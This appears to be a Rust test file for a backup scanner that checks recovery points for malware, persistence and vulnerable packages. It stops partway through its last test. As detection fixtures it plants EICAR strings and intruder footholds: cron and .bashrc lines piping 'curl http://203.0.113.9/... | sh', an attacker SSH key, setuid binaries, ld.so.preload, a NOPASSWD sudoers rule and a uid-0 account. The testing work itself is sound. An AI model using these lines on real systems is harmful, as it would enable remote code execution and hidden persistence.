//! Verification in isolation: a recovery point is scanned straight from
//! the vault for malware (YARA), persistence and vulnerable packages, and
//! `recover --find-clean` walks back to the newest point that passes.

mod common;
use common::*;
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;
use std::process::Command;

fn fixtures() -> std::path::PathBuf {
    std::path::PathBuf::from(in_package("../cairn-scan/tests/fixtures/osv"))
}

/// A small Debian-like root: accounts, cron, ssh keys, packages, files.
fn linux_root(root: &Path, glibc: &str) {
    for d in [
        "etc/cron.d",
        "etc/systemd/system",
        "root/.ssh",
        "usr/local/bin",
        "usr/bin",
        "var/lib/dpkg",
        "var/log",
        "tmp",
        "home/alice/projects/site/assets/img",
    ] {
        std::fs::create_dir_all(root.join(d)).unwrap();
    }
    std::fs::write(
        root.join("etc/os-release"),
        "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\nVERSION_ID=\"12\"\n",
    )
    .unwrap();
    std::fs::write(
        root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    )
    .unwrap();
    std::fs::write(
        root.join("etc/crontab"),
        "# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    )
    .unwrap();
    std::fs::write(
        root.join("root/.ssh/authorized_keys"),
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAdminKeyAdminKeyAdminKeyAdminKey admin@laptop\n",
    )
    .unwrap();
    std::fs::write(
        root.join("var/lib/dpkg/status"),
        format!(
            "Package: libc6\nStatus: install ok installed\nArchitecture: amd64\nSource: glibc\nVersion: {glibc}\nDescription: GNU C Library: Shared libraries\n\n\
             Package: libssl3\nStatus: install ok installed\nArchitecture: amd64\nSource: openssl\nVersion: 3.0.11-1~deb12u2\n\n\
             Package: bash\nStatus: install ok installed\nArchitecture: amd64\nVersion: 5.2.15-2+b2\nSource: bash (5.2.15-2)\n"
        ),
    )
    .unwrap();
    std::fs::write(root.join("var/log/syslog"), text(20_000, 3)).unwrap();
    std::fs::write(root.join("usr/bin/tool"), noise(50_000, 4)).unwrap();
    std::fs::write(
        root.join("usr/local/bin/backup.sh"),
        "#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n",
    )
    .unwrap();
    std::fs::write(root.join("home/alice/notes.txt"), text(30_000, 5)).unwrap();
    std::fs::write(
        root.join("home/alice/projects/site/assets/img/logo.png"),
        noise(200_000, 6),
    )
    .unwrap();
}

fn scan(env: &Env, spec: &str, extra: &[&str]) -> (Option<i32>, Value) {
    let mut args = vec!["scan", spec, "--json"];
    args.extend_from_slice(extra);
    let out = env.run(&args);
    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "scan output is not JSON ({e}):\n{}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (out.status.code(), v)
}

/// Each malware hit's path with `what` of it.
fn malware_by<T: Ord>(v: &Value, what: impl Fn(&Value) -> T) -> BTreeSet<(String, T)> {
    v["malware"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| (h["path"].as_str().unwrap().to_string(), what(h)))
        .collect()
}

fn malware_offsets(v: &Value) -> BTreeSet<(String, u64)> {
    malware_by(v, |h| h["offset"].as_u64().unwrap())
}

fn malware_paths(v: &Value) -> BTreeSet<(String, String)> {
    malware_by(v, |h| h["rule"].as_str().unwrap().to_string())
}

#[test]
fn eicar_deep_in_an_ext4_tree_is_found_with_its_path_and_offset() {
    let env = Env::new("30d", &[]);
    let root = env.path("root");
    linux_root(&root, "2.36-9+deb12u3");
    let deep = root.join("home/alice/projects/site/assets/img/cache/a/b");
    std::fs::create_dir_all(&deep).unwrap();
    let mut payload = noise(10_000, 9);
    payload.extend_from_slice(EICAR);
    payload.extend_from_slice(&noise(5_000, 10));
    std::fs::write(deep.join("thumb.dat"), &payload).unwrap();
    // A project's CI installing a toolchain: the same pipe to a shell that
    // is suspicious in a cron job is ordinary here.
    let ci = root.join("home/alice/projects/site/.github/workflows");
    std::fs::create_dir_all(&ci).unwrap();
    std::fs::write(
        ci.join("ci.yml"),
        "steps:\n  - run: curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n",
    )
    .unwrap();
    // A file named the way LockBit names what it encrypts (its bytes are
    // nothing special: the name alone tells).
    let docs = root.join("home/alice/Documents");
    std::fs::create_dir_all(&docs).unwrap();
    std::fs::write(docs.join("budget.xlsx.lockbit"), text(3_000, 11)).unwrap();
    let img = env.path("disk.img");
    gpt_ext4_image(&img, &root, 48);
    env.backup(&img, "vm", "2026-01-01T00:00:00Z");

    let (code, v) = scan(&env, "vm@latest", &[]);
    assert_eq!(code, Some(3), "{v:#}");
    assert_eq!(v["verdict"], "compromised");
    let all = v["malware"].as_array().unwrap();
    let (named, hits): (Vec<&Value>, Vec<&Value>) = all
        .iter()
        .partition(|h| h["rule"] == "cairn:Cairn_Ransomware_Extension");
    assert_eq!(named.len(), 1, "{v:#}");
    assert_eq!(
        named[0]["path"],
        "/home/alice/Documents/budget.xlsx.lockbit"
    );
    assert!(
        named[0]["description"]
            .as_str()
            .unwrap()
            .contains("LockBit")
    );
    assert_eq!(hits.len(), 1, "{v:#}");
    assert_eq!(
        hits[0]["path"],
        "/home/alice/projects/site/assets/img/cache/a/b/thumb.dat"
    );
    assert_eq!(hits[0]["rule"], "cairn:Cairn_EICAR_Test_File");
    assert_eq!(hits[0]["offset"], 10_000);
    assert!(v["stats"]["files_scanned"].as_u64().unwrap() >= 8);

    // The same snapshot again: everything comes from the cache.
    let (_, again) = scan(&env, "vm@latest", &[]);
    assert_eq!(malware_paths(&again), malware_paths(&v));

    // The timeline shows the scan's verdict beside insight's, offers no
    // clean point, and exits 3 like a backup that found something.
    let t = env.json_code(&["timeline", "vm"], 3);
    assert_eq!(t["snapshots"][0]["scan"]["verdict"], "compromised");
    assert_eq!(t["snapshots"][0]["verdict"], "clean", "{t:#}");
    assert_eq!(t["last_clean"], Value::Null, "{t:#}");
}

/// Where `offset` of a guest file lies in the image.
fn image_offset(img: &Path, guest: &str, offset: u64) -> u64 {
    file_offsets(img, guest)[(offset / 4096) as usize] + offset % 4096
}

#[test]
fn a_file_changed_in_place_is_rescanned_only_around_its_changes() {
    let env = Env::new("30d", &[]);
    let root = env.path("root");
    linux_root(&root, "2.36-9+deb12u3");
    std::fs::create_dir_all(root.join("var/lib/app")).unwrap();
    std::fs::write(root.join("var/lib/app/orders.db"), text(4 << 20, 77)).unwrap();
    std::fs::write(root.join("var/lib/app/cache.bin"), text(4 << 20, 88)).unwrap();
    std::fs::write(root.join("var/lib/app/journal.bin"), text(4 << 20, 99)).unwrap();
    let img = env.path("disk.img");
    gpt_ext4_image(&img, &root, 48);
    let db = "/var/lib/app/orders.db";
    let stats = |v: &Value, k: &str| v["stats"][k].as_u64().unwrap();

    env.backup(&img, "vm", "2026-01-01T00:00:00Z");
    let (code, v) = scan(&env, "vm@latest", &[]);
    assert_eq!(code, Some(0), "{v:#}");
    assert_eq!(stats(&v, "files_windowed"), 0);

    // Day 2: two pages rewritten in place with ordinary text. Only the
    // blocks around them go through the strings (no string matched
    // anywhere the day before, so the new bytes alone tell), and the
    // verdict is the day before's.
    write_at(&img, image_offset(&img, db, 1 << 20), &text(4096, 78));
    write_at(&img, image_offset(&img, db, 3 << 20), &text(4096, 79));
    env.backup(&img, "vm", "2026-01-02T00:00:00Z");
    let (code, v) = scan(&env, "vm@latest", &[]);
    assert_eq!(code, Some(0), "{v:#}");
    assert_eq!(stats(&v, "files_windowed"), 1, "{v:#}");
    assert!(stats(&v, "bytes_scanned") < 256 << 10, "{v:#}");

    // Day 3: the EICAR string written into the middle of a page. A string
    // matches near the change, so the file is scanned whole and the hit
    // has its exact offset.
    let at = (2 << 20) + 1000;
    write_at(&img, image_offset(&img, db, at), EICAR);
    env.backup(&img, "vm", "2026-01-03T00:00:00Z");
    let (code, v) = scan(&env, "vm@latest", &[]);
    assert_eq!(code, Some(3), "{v:#}");
    assert_eq!(stats(&v, "files_windowed"), 0, "{v:#}");
    assert!(stats(&v, "bytes_scanned") >= 4 << 20, "{v:#}");
    let hits = v["malware"].as_array().unwrap();
    assert_eq!(hits.len(), 1, "{v:#}");
    assert_eq!(hits[0]["path"], db);
    assert_eq!(hits[0]["offset"], at);

    // Day 4: a page far from it changes. The file is judged from around
    // that change, and the hit found the day before is still reported.
    write_at(&img, image_offset(&img, db, 200 << 10), &text(4096, 80));
    env.backup(&img, "vm", "2026-01-04T00:00:00Z");
    let (code, v4) = scan(&env, "vm@latest", &[]);
    assert_eq!(code, Some(3), "{v4:#}");
    assert_eq!(stats(&v4, "files_windowed"), 1, "{v4:#}");
    assert_eq!(v4["malware"], v["malware"]);

    // The EICAR string written in two halves on two days, the second
    // half at the start of a 64 KiB block of the disk: the string reaches
    // back out of the changed block, so the file is scanned whole. In the
    // database (a string matched in it before) and in a file where none
    // had (whose earlier bytes are then not read at all).
    let cache = "/var/lib/app/cache.bin";
    let pages = file_offsets(&img, cache);
    let split = (1..pages.len())
        .find(|&i| pages[i].is_multiple_of(64 << 10) && pages[i - 1] + 4096 == pages[i])
        .expect("a page of the file starts a 64 KiB block") as u64
        * 4096;
    for (file, at) in [(db, 4096 * 100), (cache, split)] {
        write_at(&img, image_offset(&img, file, at - 30), &EICAR[..30]);
    }
    env.backup(&img, "vm", "2026-01-05T00:00:00Z");
    for (file, at) in [(db, 4096 * 100), (cache, split)] {
        write_at(&img, image_offset(&img, file, at), &EICAR[30..]);
    }
    env.backup(&img, "vm", "2026-01-06T00:00:00Z");
    let (_, v5) = scan(&env, "vm@-1", &[]);
    assert_eq!(v5["malware"].as_array().unwrap().len(), 1, "{v5:#}");
    assert_eq!(stats(&v5, "files_windowed"), 2, "{v5:#}");
    let (_, v6) = scan(&env, "vm@latest", &[]);
    assert_eq!(stats(&v6, "files_windowed"), 0, "{v6:#}");
    let found = malware_offsets(&v6);
    let want = BTreeSet::from([
        (db.to_string(), 4096 * 100 - 30),
        (cache.to_string(), split - 30),
    ]);
    assert_eq!(found, want, "{v6:#}");

    // Day 7, an ordinary page again: judged from around it with Cairn's
    // rules, but scanned whole with an operator's rule that reads the
    // file's bytes itself.
    write_at(&img, image_offset(&img, db, 1 << 20), &text(4096, 81));
    env.backup(&img, "vm", "2026-01-07T00:00:00Z");
    let (_, v) = scan(&env, "vm@latest", &[]);
    assert_eq!(stats(&v, "files_windowed"), 1, "{v:#}");
    let rules = env.path("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(
        rules.join("magic.yar"),
        "rule Sqlite_Header { condition: uint32(0) == 0x694c5153 }\n",
    )
    .unwrap();
    let r = rules.to_str().unwrap();
    scan(&env, "vm@-1", &["--rules", r]);
    let (_, v) = scan(&env, "vm@latest", &["--rules", r]);
    assert_eq!(stats(&v, "files_windowed"), 0, "{v:#}");
    assert!(stats(&v, "bytes_scanned") >= 4 << 20, "{v:#}");

    // Day 8: a file in which no string ever matched, rewritten in five of
    // every eight of its 64 KiB blocks. Only its new version is read, and
    // only where it changed: cheaper than scanning it whole however much
    // changed, short of nearly all of it.
    let journal = "/var/lib/app/journal.bin";
    let mut blocks = BTreeSet::new();
    for (i, &page) in file_offsets(&img, journal).iter().enumerate() {
        let block = page / (64 << 10);
        if block % 8 < 5 && blocks.insert(block) {
            write_at(&img, page, &text(4096, 200 + i as u64));
        }
    }
    env.backup(&img, "vm", "2026-01-08T00:00:00Z");
    let (code, v) = scan(&env, "vm@latest", &[]);
    // (The files beside it share its first and last 64 KiB blocks, so
    // they are judged around those too.)
    assert!(stats(&v, "files_windowed") >= 1, "{v:#}");
    assert!(stats(&v, "bytes_scanned") < 4 << 20, "{v:#}");
    // The strings planted on days 5 and 6 are still there, and still found.
    assert_eq!(code, Some(3), "{v:#}");
    assert_eq!(malware_offsets(&v), want, "{v:#}");
}

/// Past the first 256 MiB of a file the rules are not run (memory stays
/// bounded), but its strings are: EICAR at 280 MiB of a sparse file
/// (which costs an attacker no space) makes the point a warning.
#[test]
fn a_string_past_the_scan_limit_of_a_large_file_is_not_missed() {
    let env = Env::new("30d", &[]);
    let root = env.path("root");
    linux_root(&root, "2.36-9+deb12u3");
    let big = root.join("var/lib/big.bin");
    std::fs::create_dir_all(big.parent().unwrap()).unwrap();
    let f = std::fs::File::create(&big).unwrap();
    f.set_len(300 << 20).unwrap();
    use std::os::unix::fs::FileExt;
    f.write_all_at(EICAR, 280 << 20).unwrap();
    drop(f);
    let img = env.path("disk.img");
    gpt_ext4_image(&img, &root, 48);
    env.backup(&img, "vm", "2026-01-01T00:00:00Z");
    let (code, v) = scan(&env, "vm@latest", &[]);
    assert_eq!(code, Some(3), "{v:#}");
    assert_eq!(v["verdict"], "warning", "{v:#}");
    let hits = v["malware"].as_array().unwrap();
    assert_eq!(hits.len(), 1, "{v:#}");
    assert_eq!(hits[0]["path"], "/var/lib/big.bin");
    assert_eq!(hits[0]["rule"], "cairn:Cairn_String_Beyond_Scan_Limit");
    let at = hits[0]["offset"].as_u64().unwrap();
    assert!(at <= 280 << 20 && at + (8 << 20) > 280 << 20, "{v:#}");
}

#[test]
fn eicar_on_an_ntfs_guest_is_found() {
    let env = Env::new("30d", &[]);
    let files = env.path("files");
    std::fs::create_dir_all(&files).unwrap();
    std::fs::write(files.join("report.docx"), noise(40_000, 1)).unwrap();
    let mut dropper = b"MZ".to_vec();
    dropper.extend_from_slice(&noise(3000, 2));
    dropper.extend_from_slice(EICAR);
    std::fs::write(files.join("invoice.pdf.exe"), &dropper).unwrap();
    // An NTFS partition made with mkntfs and filled with ntfscp (no mount).
    let disk = env.path("win.img");
    let put: Vec<(String, Vec<u8>)> = ["report.docx", "invoice.pdf.exe"]
        .iter()
        .map(|name| (format!("/{name}"), std::fs::read(files.join(name)).unwrap()))
        .collect();
    ntfs_disk(&disk, &put);
    env.backup(&disk, "win", "2026-01-01T00:00:00Z");
    let (code, v) = scan(&env, "win@latest", &[]);
    assert_eq!(code, Some(3), "{v:#}");
    assert_eq!(
        malware_paths(&v),
        BTreeSet::from([(
            "/invoice.pdf.exe".to_string(),
            "cairn:Cairn_EICAR_Test_File".to_string()
        )])
    );
    assert_eq!(v["malware"][0]["offset"], 3002);
}

/// Operator rules that exercise the YARA language broadly.
const OPERATOR_RULES: &str = r#"
rule text_plain { strings: $a = "invoice" condition: $a }
rule nocase_word { strings: $a = "Secret Plan" nocase condition: $a }
rule wide_str { strings: $a = "payload" wide condition: $a }
rule hex_jump { strings: $h = { 4D 5A 90 00 ?? ?? [2-4] 50 45 } condition: $h }
rule regex_mail { strings: $r = /[a-z]{3,10}@example\.(com|org)/ condition: $r }
rule counted { strings: $a = "ab" condition: #a >= 3 }
rule pdf_magic { strings: $m = "%PDF-" condition: $m at 0 }
rule tiny_file { condition: filesize < 10 }
rule both_words { strings: $a = "alpha" $b = "beta" condition: all of them }
rule any_two { strings: $a = "red" $b = "green" $c = "blue" condition: 2 of them }
rule acme_implant { meta: severity = "compromised" strings: $s = "ACME-IMPLANT-7" condition: $s }
"#;

#[test]
fn operator_rules_match_exactly_what_the_yara_command_line_tool_matches() {
    let env = Env::new("30d", &[]);
    let tree = env.path("tree");
    std::fs::create_dir_all(tree.join("sub/deeper")).unwrap();
    let wide = |s: &str| s.bytes().flat_map(|b| [b, 0]).collect::<Vec<u8>>();
    let mut files: Vec<(&str, Vec<u8>)> = vec![
        ("a.txt", b"please pay this invoice today".to_vec()),
        ("b.txt", b"the SECRET plan is out".to_vec()),
        (
            "c.bin",
            [b"xx".to_vec(), wide("payload"), b"yy".to_vec()].concat(),
        ),
        (
            "d.exe",
            b"\x4d\x5a\x90\x00\x01\x02\x03\x04\x50\x45rest".to_vec(),
        ),
        (
            "e.txt",
            b"write to bob@example.org or x@example.net".to_vec(),
        ),
        ("f.txt", b"ab ab ab".to_vec()),
        ("g.txt", b"ab ab".to_vec()),
        ("h.pdf", b"%PDF-1.7\n...".to_vec()),
        ("i.txt", b" %PDF-1.7".to_vec()),
        ("j", b"tiny".to_vec()),
        ("k.txt", b"alpha and beta".to_vec()),
        ("l.txt", b"only alpha here, a long enough line".to_vec()),
        ("m.txt", b"red and blue and nothing else".to_vec()),
        ("n.txt", b"just red, nothing more to see here".to_vec()),
        ("sub/o.dat", b"header ACME-IMPLANT-7 footer".to_vec()),
        (
            "sub/deeper/p.txt",
            b"invoice for the Secret Plan, see bob@example.com".to_vec(),
        ),
        ("sub/deeper/q.bin", noise(100_000, 11)),
    ];
    files.push(("sub/empty", Vec::new()));
    for (p, data) in &files {
        std::fs::write(tree.join(p), data).unwrap();
    }
    let rules = env.path("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(rules.join("ops.yar"), OPERATOR_RULES).unwrap();
    env.backup(&tree, "share", "2026-01-01T00:00:00Z");

    let (code, v) = scan(&env, "share@latest", &["--rules", rules.to_str().unwrap()]);
    assert_eq!(code, Some(3));
    let cairn: BTreeSet<(String, String)> = malware_paths(&v)
        .into_iter()
        .filter_map(|(p, r)| r.strip_prefix("ops:").map(|r| (r.to_string(), p)))
        .collect();

    let out = sh(
        "yara",
        &[
            "-r",
            rules.join("ops.yar").to_str().unwrap(),
            tree.to_str().unwrap(),
        ],
    );
    let prefix = tree.to_str().unwrap();
    let yara: BTreeSet<(String, String)> = out
        .lines()
        .filter_map(|l| l.split_once(' '))
        .map(|(rule, path)| {
            (
                rule.to_string(),
                path.strip_prefix(prefix).unwrap().to_string(),
            )
        })
        .collect();
    assert!(yara.len() >= 12, "the rules match something: {yara:?}");
    assert_eq!(cairn, yara, "Cairn and yara disagree");
    // The operator's own severity is kept, and its hit makes the point compromised.
    assert_eq!(v["verdict"], "compromised");
    // One rule file given directly is the same rule set.
    let file = rules.join("ops.yar");
    let (code, one) = scan(&env, "share@latest", &["--rules", file.to_str().unwrap()]);
    assert_eq!(code, Some(3));
    assert_eq!(malware_paths(&one), malware_paths(&v));
}

fn import_fixtures(env: &Env) {
    // An import that finds nothing usable is an error, not an empty
    // database that looks up to date; one record alone is taken.
    let empty = env.path("empty-osv");
    std::fs::create_dir_all(&empty).unwrap();
    std::fs::write(empty.join("garbage.json"), b"{not json").unwrap();
    let out = env.run(&["vulndb", "import", empty.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no OSV advisory found"));
    let one = env.json(&[
        "vulndb",
        "import",
        fixtures().join("DSA-5514-1.json").to_str().unwrap(),
    ]);
    assert_eq!(one["imported"], 1, "{one:#}");
    let r = env.json(&["vulndb", "import", fixtures().to_str().unwrap()]);
    assert_eq!(r["imported"], 5, "{r:#}");
    assert_eq!(r["ecosystems"]["Debian:12"], 3);
    // Per ecosystem, advisories: ALSA-2023-5249 names two of its
    // packages and counts once.
    let status = env.json(&["vulndb", "status"]);
    assert_eq!(status["ecosystems"]["AlmaLinux:9"], 1, "{status:#}");
    // A file that is no record at all beside good ones (a download cut
    // short) is named and makes the exit 3; the good ones still count.
    let mixed = env.path("mixed-osv");
    std::fs::create_dir_all(&mixed).unwrap();
    std::fs::copy(
        fixtures().join("DSA-5514-1.json"),
        mixed.join("DSA-5514-1.json"),
    )
    .unwrap();
    std::fs::write(mixed.join("cut.json"), b"{\"id\": \"DSA-1\", \"affe").unwrap();
    let r = env.json_code(&["vulndb", "import", mixed.to_str().unwrap()], 3);
    assert_eq!(r["imported"], 1, "{r:#}");
    assert!(
        r["damaged"][0].as_str().unwrap().contains("cut.json"),
        "{r:#}"
    );
}

fn vuln_ids(v: &Value) -> BTreeSet<(String, String)> {
    v["vulnerabilities"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["package"].as_str().unwrap().to_string(),
                f["id"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

#[test]
fn a_vulnerable_package_is_reported_and_the_fixed_version_is_not() {
    let env = Env::new("30d", &[]);
    import_fixtures(&env);
    // The same records from a zip, the way OSV publishes them.
    let zip = env.path("Debian-all.zip");
    sh(
        "python3",
        &[
            "-c",
            "import sys,zipfile,pathlib\nz=zipfile.ZipFile(sys.argv[1],'w',zipfile.ZIP_DEFLATED)\n[z.write(p,p.name) for p in pathlib.Path(sys.argv[2]).glob('*.json')]\nz.close()",
            zip.to_str().unwrap(),
            fixtures().to_str().unwrap(),
        ],
    );
    let r = env.json(&["vulndb", "import", zip.to_str().unwrap()]);
    assert_eq!(
        (r["imported"].as_u64(), r["new"].as_u64()),
        (Some(5), Some(0))
    );

    let root = env.path("old");
    linux_root(&root, "2.36-9+deb12u1");
    let img = env.path("old.img");
    gpt_ext4_image(&img, &root, 32);
    env.backup(&img, "old", "2026-01-01T00:00:00Z");
    let (code, v) = scan(&env, "old@latest", &[]);
    assert_eq!(
        code,
        Some(3),
        "vulnerabilities count as findings for the exit code"
    );
    assert_eq!(
        v["verdict"], "clean",
        "vulnerabilities alone do not fail a point"
    );
    assert_eq!(
        vuln_ids(&v),
        BTreeSet::from([
            ("libc6".to_string(), "DEBIAN-CVE-2023-4911".to_string()),
            ("libc6".to_string(), "DSA-5514-1".to_string()),
        ]),
        "openssl 3.0.11-1~deb12u2 is the fixed version, the Alpine record is for another OS: {v:#}"
    );
    let f = &v["vulnerabilities"][0];
    assert_eq!(f["installed"], "2.36-9+deb12u1");
    assert_eq!(f["source"], "glibc");
    assert_eq!(f["fixed"], "2.36-9+deb12u3");
    assert_eq!(f["aliases"][0], "CVE-2023-4911");
    assert_eq!(v["os"], "Debian GNU/Linux 12 (bookworm)");
    assert_eq!(v["packages"], 3);

    let root = env.path("new");
    linux_root(&root, "2.36-9+deb12u3");
    let img = env.path("new.img");
    gpt_ext4_image(&img, &root, 32);
    env.backup(&img, "new", "2026-01-01T00:00:00Z");
    let (code, v) = scan(&env, "new@latest", &[]);
    assert_eq!(code, Some(0), "{v:#}");
    assert!(vuln_ids(&v).is_empty(), "{v:#}");
}

/// A small Alpine root whose openssl (the origin of libcrypto3 and
/// libssl3) is at `version`.
fn alpine_root(root: &Path, version: &str) {
    std::fs::create_dir_all(root.join("lib/apk/db")).unwrap();
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::write(
        root.join("etc/os-release"),
        "NAME=\"Alpine Linux\"\nID=alpine\nVERSION_ID=3.18.4\nPRETTY_NAME=\"Alpine Linux v3.18\"\n",
    )
    .unwrap();
    std::fs::write(
        root.join("lib/apk/db/installed"),
        format!(
            "C:Q1abc=\nP:musl\nV:1.2.4-r2\nA:x86_64\no:musl\n\n\
             C:Q1def=\nP:libcrypto3\nV:{version}\nA:x86_64\no:openssl\n\n\
             C:Q1ghi=\nP:libssl3\nV:{version}\nA:x86_64\no:openssl\n\n"
        ),
    )
    .unwrap();
}

#[test]
fn an_alpine_guest_is_matched_by_origin_with_apk_version_order() {
    let env = Env::new("30d", &[]);
    import_fixtures(&env);
    for (name, version, vulnerable) in [("old", "3.1.3-r0", true), ("new", "3.1.4-r0", false)] {
        let root = env.path(&format!("{name}-root"));
        alpine_root(&root, version);
        // Alpine ships a `dpkg` package too, with its status file: the
        // apk database is still the one read.
        std::fs::create_dir_all(root.join("var/lib/dpkg")).unwrap();
        std::fs::write(
            root.join("var/lib/dpkg/status"),
            "Package: dpkg\nStatus: install ok installed\nVersion: 1.21.22\n\n",
        )
        .unwrap();
        let img = env.path(&format!("{name}.img"));
        gpt_ext4_image(&img, &root, 16);
        env.backup(&img, name, "2026-01-01T00:00:00Z");
        let (_, v) = scan(&env, &format!("{name}@latest"), &[]);
        let want: BTreeSet<(String, String)> = if vulnerable {
            ["libcrypto3", "libssl3"]
                .iter()
                .map(|p| (p.to_string(), "ALPINE-CVE-2023-5363".to_string()))
                .collect()
        } else {
            BTreeSet::new()
        };
        assert_eq!(vuln_ids(&v), want, "{name}: {v:#}");
        assert!(
            v.to_string()
                .contains("a dpkg package database is there too"),
            "{v:#}"
        );
        if vulnerable {
            let f = &v["vulnerabilities"][0];
            assert_eq!(f["installed"], "3.1.3-r0", "{f:#}");
            assert_eq!(f["fixed"], "3.1.4-r0", "{f:#}");
        }
    }
}

fn kinds(v: &Value) -> BTreeSet<(String, String)> {
    v["persistence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["kind"].as_str().unwrap().to_string(),
                p["path"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

#[test]
fn an_added_cron_job_ssh_key_and_setuid_binary_are_each_reported() {
    let env = Env::new("30d", &[]);
    let root = env.path("root");
    linux_root(&root, "2.36-9+deb12u3");
    let img = env.path("disk.img");
    gpt_ext4_image(&img, &root, 48);
    env.backup(&img, "vm", "2026-01-01T00:00:00Z");
    let (code, day1) = scan(&env, "vm@latest", &[]);
    assert_eq!(
        (code, day1["verdict"].as_str()),
        (Some(0), Some("clean")),
        "{day1:#}"
    );

    // Day 2: ordinary work plus a foothold.
    replace_guest_file(&img, "/home/alice/notes.txt", &text(31_000, 99));
    let cron = env.path("updater");
    std::fs::write(
        &cron,
        "*/5 * * * * root curl -s http://203.0.113.9/u | sh\n",
    )
    .unwrap();
    debugfs_w(
        &img,
        &format!("write {} /etc/cron.d/updater", cron.display()),
    );
    let mut keys = std::fs::read(root.join("root/.ssh/authorized_keys")).unwrap();
    keys.extend_from_slice(b"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQAttackerKey intruder@vps\n");
    replace_guest_file(&img, "/root/.ssh/authorized_keys", &keys);
    let helper = env.path("helper");
    std::fs::write(&helper, noise(20_000, 77)).unwrap();
    debugfs_w(
        &img,
        &format!("write {} /usr/local/bin/helper", helper.display()),
    );
    debugfs_w(&img, "sif /usr/local/bin/helper mode 0104755");
    // Another one, named with a byte that is not UTF-8: it is reported
    // under its escaped name (which reads back to those bytes).
    for cmd in [
        [
            b"write ".as_slice(),
            helper.as_os_str().as_bytes(),
            b" /usr/local/bin/up\xffdate",
        ]
        .concat(),
        b"sif /usr/local/bin/up\xffdate mode 0104755".to_vec(),
    ] {
        let out = Command::new("debugfs")
            .arg("-w")
            .arg("-R")
            .arg(std::ffi::OsStr::from_bytes(&cmd))
            .arg(format!("{}?offset=1048576", img.display()))
            .output()
            .unwrap();
        assert!(out.status.success());
    }
    env.backup(&img, "vm", "2026-01-02T00:00:00Z");

    let (code, v) = scan(&env, "vm@latest", &[]);
    assert_eq!(code, Some(3), "{v:#}");
    assert_eq!(
        v["baseline"], day1["snapshot"],
        "compared with the clean day 1"
    );
    assert_eq!(
        kinds(&v),
        BTreeSet::from([
            ("cron".to_string(), "/etc/cron.d/updater".to_string()),
            (
                "authorized_keys".to_string(),
                "/root/.ssh/authorized_keys".to_string()
            ),
            ("setuid".to_string(), "/usr/local/bin/helper".to_string()),
            (
                "setuid".to_string(),
                "/usr/local/bin/up\\xffdate".to_string()
            ),
        ]),
        "exactly the foothold, not alice's edit: {v:#}"
    );
    let detail = |k: &str| {
        v["persistence"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["kind"] == k)
            .unwrap()["detail"]
            .as_str()
            .unwrap()
            .to_string()
    };
    assert!(
        detail("cron").contains("curl -s http://203.0.113.9/u | sh"),
        "{}",
        detail("cron")
    );
    assert!(detail("authorized_keys").contains("intruder@vps"));
    assert!(!detail("authorized_keys").contains("admin@laptop"));
    assert!(detail("setuid").contains("4755"), "{}", detail("setuid"));
    // The downloaded-and-piped cron line is also a rule hit.
    assert!(
        malware_paths(&v).contains(&(
            "/etc/cron.d/updater".to_string(),
            "cairn:Cairn_Download_And_Run".to_string()
        )),
        "{v:#}"
    );
}

/// One day of ordinary work on the guest.
#[test]
fn a_new_unit_preload_sudo_rule_accounts_profile_hook_temp_binary_and_cleared_log_are_reported() {
    let env = Env::new("30d", &[]);
    let root = env.path("root");
    linux_root(&root, "2.36-9+deb12u3");
    std::fs::create_dir_all(root.join("etc/sudoers.d")).unwrap();
    std::fs::write(
        root.join("etc/shadow"),
        "root:*:19000:0:99999:7:::\nalice:!:19000:0:99999:7:::\n",
    )
    .unwrap();
    std::fs::write(root.join("home/alice/.bashrc"), "alias ll='ls -l'\n").unwrap();
    let img = env.path("disk.img");
    gpt_ext4_image(&img, &root, 48);
    env.backup(&img, "vm", "2026-01-01T00:00:00Z");
    let (code, _) = scan(&env, "vm@latest", &[]);
    assert_eq!(code, Some(0));

    // Day 2: the intruder settles in, and wipes the log behind them.
    let put = |guest: &str, content: &[u8]| {
        let local = env.path("upload");
        std::fs::write(&local, content).unwrap();
        debugfs_w(&img, &format!("write {} {guest}", local.display()));
        std::fs::remove_file(&local).unwrap();
    };
    put(
        "/etc/systemd/system/dbus-helper.service",
        b"[Service]\nExecStart=/usr/local/bin/helper\n[Install]\nWantedBy=multi-user.target\n",
    );
    put(
        "/etc/ld.so.preload",
        b"/usr/lib/x86_64-linux-gnu/libhide.so\n",
    );
    put(
        "/etc/sudoers.d/zz-maint",
        b"maint ALL=(ALL) NOPASSWD: ALL\n",
    );
    let mut passwd = std::fs::read(root.join("etc/passwd")).unwrap();
    passwd.extend_from_slice(
        b"maint:x:1001:1001::/home/maint:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n",
    );
    replace_guest_file(&img, "/etc/passwd", &passwd);
    replace_guest_file(
        &img,
        "/etc/shadow",
        b"root:*:19000:0:99999:7:::\nalice:$6$salt$hashhashhash:19001:0:99999:7:::\n",
    );
    replace_guest_file(
        &img,
        "/home/alice/.bashrc",
        b"alias ll='ls -l'\n(curl -s http://203.0.113.9/k | sh) >/dev/null 2>&1 &\n",
    );
